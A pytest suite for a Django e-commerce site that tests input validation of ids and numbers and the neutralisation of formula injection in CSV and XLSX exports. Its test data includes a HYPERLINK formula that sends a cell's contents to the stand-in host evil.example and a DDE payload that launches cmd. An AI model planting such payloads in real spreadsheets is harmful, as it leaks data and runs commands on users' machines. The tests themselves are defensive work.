"""Numbers and ids in query strings and forms (issue 16): digits that are not ASCII ("²", "١٢"), numbers
no database holds (9223372036854775808), a form field left out. Each gets a clear answer, never a 500:
404 for an id naming what the page is about, the page's default for a filter, 400 with a message for
the map's GeoJSON, a message in the order dashboard."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.messages import get_messages
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from oscar.test.factories import ShippingAddressFactory

from common.params import ID_MAX
from dashboard.orders.views import LINE_QUANTITY_MISSING
from feedback.views import PERIOD_DAYS
from payments.models import LedgerEntry
from regions.models import AdministrativeUnit
from tests import factories

pytestmark = pytest.mark.django_db

HUGE = "9223372036854775808"  # 2**63: one more than SQLite's and PostgreSQL's largest integer
SUPERSCRIPT_TWO = "²"  # str.isdigit() says yes, int() says no
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'


def arabic_indic(number: int) -> str:
    """``number`` in Arabic-Indic digits, which int() reads as the same number."""
    return "".join(chr(0x0660 + int(digit)) for digit in str(number))


def shown_messages(response):
    return [str(message) for message in get_messages(response.wsgi_request)]


@pytest.fixture
def officer_client(client, site):
    client.force_login(factories.officer())
    return client


class TestMap:
    @pytest.fixture
    def mapped(self, site):
        area = factories.raw_material_area(factories.cooperative())
        return area.commune.parent

    @pytest.mark.parametrize("endpoint", ["/map/areas.geojson", "/map/cooperatives.geojson"])
    @pytest.mark.parametrize("district", [HUGE, SUPERSCRIPT_TWO, "-1", "0", str(10**30), "12abc"])
    def test_geojson_refuses_a_district_that_is_not_an_id_with_a_message(self, client, mapped, endpoint, district):
        response = client.get(endpoint, {"district": district})
        assert response.status_code == 400
        assert response.json()["errors"]["district"] == f"“district” phải là một số nguyên từ 1 đến {ID_MAX}."
        response = client.get("/en" + endpoint, {"district": district})
        assert response.json()["errors"]["district"] == f"“district” must be a whole number from 1 to {ID_MAX}."

    def test_geojson_does_not_read_arabic_indic_digits_as_the_district(self, client, mapped):
        response = client.get("/map/areas.geojson", {"district": arabic_indic(mapped.pk)})
        assert response.status_code == 400

    def test_geojson_still_filters_by_a_district(self, client, mapped):
        assert len(client.get("/map/areas.geojson", {"district": mapped.pk}).json()["features"]) == 1
        assert client.get("/map/areas.geojson", {"district": ""}).status_code == 200

    @pytest.mark.parametrize("district", [HUGE, SUPERSCRIPT_TWO])
    def test_map_page_shows_every_district_for_a_district_that_is_not_an_id(self, client, mapped, district):
        response = client.get("/map/", {"district": district})
        assert response.status_code == 200
        assert response.context["district"] is None


class TestFeedbackSummary:
    @pytest.mark.parametrize("days", [HUGE, SUPERSCRIPT_TWO, arabic_indic(30), "-30", "7.0"])
    def test_a_period_that_is_not_offered_shows_the_default(self, officer_client, days):
        response = officer_client.get("/feedback/summary/", {"days": days})
        assert response.status_code == 200
        assert response.context["days"] == PERIOD_DAYS[0]

    def test_an_offered_period_is_used(self, officer_client):
        assert officer_client.get("/feedback/summary/", {"days": PERIOD_DAYS[-1]}).context["days"] == PERIOD_DAYS[-1]


class TestIdsNamingThePage:
    @pytest.fixture
    def coop(self, site):
        return factories.cooperative()

    @pytest.mark.parametrize("url", ["/payments/statement/", "/fulfilment/pick-list/"])
    @pytest.mark.parametrize("value", [HUGE, SUPERSCRIPT_TWO, str(10**30), "-1"])
    def test_an_id_that_cannot_exist_is_not_found(self, officer_client, coop, url, value):
        assert officer_client.get(url, {"cooperative": value}).status_code == 404

    @pytest.mark.parametrize("url", ["/payments/statement/", "/fulfilment/pick-list/"])
    def test_arabic_indic_digits_do_not_name_a_cooperative(self, officer_client, coop, url):
        assert officer_client.get(url, {"cooperative": coop.pk}).status_code == 200
        assert officer_client.get(url, {"cooperative": arabic_indic(coop.pk)}).status_code == 404

    def test_staff_asking_for_a_huge_cooperative_id_get_not_found(self, client, coop):
        client.force_login(factories.cooperative_staff(coop))
        assert client.get("/payments/statement/", {"cooperative": HUGE}).status_code == 404


class TestSearchFacets:
    @pytest.mark.parametrize("value", [SUPERSCRIPT_TWO, HUGE, arabic_indic(1)])
    def test_a_facet_value_that_is_not_an_id_is_dropped(self, client, site, value):
        factories.product(factories.cooperative(), title="Rau muống")
        response = client.get("/search/", {"q": "rau", "category": value, "district": value, "ocop": value})
        assert response.status_code == 200
        assert not response.context["chips"]


class TestOrderLineActions:
    @pytest.fixture
    def order(self, site):
        return factories.order_with_parts((factories.product(factories.cooperative()), 2))

    @pytest.fixture
    def superuser_client(self, client, site):
        client.force_login(factories.user(is_staff=True, is_superuser=True))
        return client

    def test_a_line_action_without_the_quantity_answers_a_message(self, superuser_client, order):
        line = order.lines.get()
        url = reverse("dashboard:order-detail", kwargs={"number": order.number})
        data = {"line_action": "change_line_statuses", "selected_line": [line.pk], "new_status": "Cancelled"}
        response = superuser_client.post(url, data)
        assert response.status_code == 302
        with translation.override("vi"):
            expected = str(LINE_QUANTITY_MISSING) % {"line_id": line.pk, "quantity": 2}
        assert expected in shown_messages(response)
        assert expected.startswith("Hãy nhập số lượng")
        line.refresh_from_db()
        assert line.status != "Cancelled"

    @pytest.mark.parametrize("quantity", [HUGE, SUPERSCRIPT_TWO, arabic_indic(1), "-1", ""])
    def test_a_line_action_with_a_quantity_that_is_not_a_number_answers_a_message(
        self, superuser_client, order, quantity
    ):
        line = order.lines.get()
        url = reverse("dashboard:order-detail", kwargs={"number": order.number})
        data = {
            "line_action": "change_line_statuses",
            "selected_line": [line.pk],
            f"selected_line_qty_{line.pk}": quantity,
        }
        response = superuser_client.post(url, data)
        assert response.status_code == 302
        assert shown_messages(response)

    @pytest.mark.parametrize("selected", [HUGE, SUPERSCRIPT_TWO, "abc"])
    def test_a_line_action_on_a_line_that_cannot_exist_answers_a_message(self, superuser_client, order, selected):
        url = reverse("dashboard:order-detail", kwargs={"number": order.number})
        response = superuser_client.post(url, {"line_action": "change_line_statuses", "selected_line": [selected]})
        assert response.status_code == 302
        assert shown_messages(response)


class TestTraceCodes:
    @pytest.fixture
    def batch(self, site):
        coop = factories.cooperative()
        product = factories.product(coop=coop, upc="8934563138165")
        return factories.batch(coop=coop, product_=product, code="LO-0001-261204")

    @pytest.mark.parametrize(
        ("asked", "canonical"),
        [
            ("/trace/lo-0001-261204/", "/trace/LO-0001-261204/"),
            ("/en/trace/Lo-0001-261204/", "/en/trace/LO-0001-261204/"),
            ("/trace/lo-0001-261204/qr.svg", "/trace/LO-0001-261204/qr.svg"),
        ],
    )
    def test_a_code_in_another_case_redirects_to_the_codes_own_address(self, client, batch, asked, canonical):
        response = client.get(asked)
        assert response.status_code == 301
        assert response["Location"] == canonical
        assert client.get(canonical).status_code == 200

    def test_the_trace_page_of_a_code_in_another_case_shows_the_batch(self, client, batch):
        response = client.get("/trace/lo-0001-261204/", follow=True)
        assert response.status_code == 200
        assert "LO-0001-261204" in response.content.decode()

    def test_a_digital_link_in_another_case_leads_to_the_batch(self, client, batch):
        response = client.get("/01/8934563138165/10/lo-0001-261204")
        assert response["Location"] == "/trace/LO-0001-261204/"

    def test_an_unknown_code_is_still_not_found(self, client, batch):
        assert client.get("/trace/lo-0002-261204/").status_code == 404


# --- Spreadsheets: text that is a formula to Excel gets a leading ' (numbers stay numbers) ---


def csv_cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def all_cells(rows) -> list:
    return [cell for row in rows for cell in row]


def assert_neutralised(cells, text):
    assert text not in cells, f"{text!r} is a formula in the spreadsheet"
    assert "'" + text in cells


class TestSpreadsheetExports:
    def test_orders_csv_neutralises_a_buyers_name_that_is_a_formula(self, client, site):
        order = factories.order_with_parts((factories.product(factories.cooperative()), 1))
        order.shipping_address = ShippingAddressFactory(first_name=FORMULA, last_name="")
        order.save()
        client.force_login(factories.user(is_staff=True, is_superuser=True))
        url = reverse("dashboard:order-list")
        downloaded = client.get(url, {"response_format": "csv"})
        selected = client.post(url, {"action": "download_selected_orders", "selected_order": [order.pk]})
        for response in (downloaded, selected):
            cells = all_cells(csv_cells(response))
            assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
            assert "'" + FORMULA in cells

    @pytest.fixture
    def statement_entries(self, site):
        coop = factories.cooperative()
        for description, amount in (("=1+2", 150000), ("@SUM(A1:A2)", -150000), ("-2+3", 0), ("\tx", 5)):
            LedgerEntry.objects.create(cooperative=coop, kind="collected", amount=amount, description=description)
        return coop

    def test_statement_csv_neutralises_text_and_keeps_negative_amounts(self, officer_client, statement_entries):
        response = officer_client.get("/payments/statement/", {"cooperative": statement_entries.pk, "format": "csv"})
        cells = all_cells(csv_cells(response))
        for text in ("=1+2", "@SUM(A1:A2)", "-2+3", "\tx"):
            assert_neutralised(cells, text)
        assert "-150000" in cells

    def test_statement_xlsx_neutralises_text_and_keeps_negative_amounts(self, officer_client, statement_entries):
        response = officer_client.get("/payments/statement/", {"cooperative": statement_entries.pk, "format": "xlsx"})
        cells = all_cells(xlsx_cells(response))
        for text in ("=1+2", "@SUM(A1:A2)", "-2+3", "\tx"):
            assert_neutralised(cells, text)
        assert -150000 in cells

    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_adoption_exports_neutralise_a_place_name_that_is_a_formula(self, officer_client, fmt):
        factories.real_geography()
        district = factories.unit("27502").parent
        AdministrativeUnit.objects.filter(pk=district.pk).update(name="+cmd|' /C calc'!A0")
        response = officer_client.get(f"/adoption/export/districts.{fmt}")
        assert response.status_code == 200
        cells = all_cells(csv_cells(response) if fmt == "csv" else xlsx_cells(response))
        assert_neutralised(cells, "+cmd|' /C calc'!A0")
        if fmt == "xlsx":
            assert any(isinstance(cell, int) for cell in cells)

    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_the_import_template_neutralises_a_category_name_that_is_a_formula(self, client, site, fmt):
        coop = factories.cooperative()
        factories.category("=1+1")
        client.force_login(factories.cooperative_staff(coop))
        response = client.get(f"/cooperatives/import/template.{fmt}")
        assert response.status_code == 200
        if fmt == "csv":
            cells = all_cells(csv_cells(response))
        else:
            workbook = load_workbook(io.BytesIO(response.content))
            cells = [cell for sheet in workbook for row in sheet.iter_rows(values_only=True) for cell in row]
        assert "=1+1" not in cells
        assert not [cell for cell in cells if isinstance(cell, str) and cell.startswith("=")]


def test_money_amounts_stay_numbers_in_the_orders_csv(client, site):
    factories.order_with_parts((factories.product(factories.cooperative(), price=Decimal("45000")), 1))
    client.force_login(factories.user(is_staff=True, is_superuser=True))
    rows = csv_cells(client.get(reverse("dashboard:order-list"), {"response_format": "csv"}))
    assert any(cell.replace(".", "").isascii() and cell.startswith("45000") for cell in rows[1])
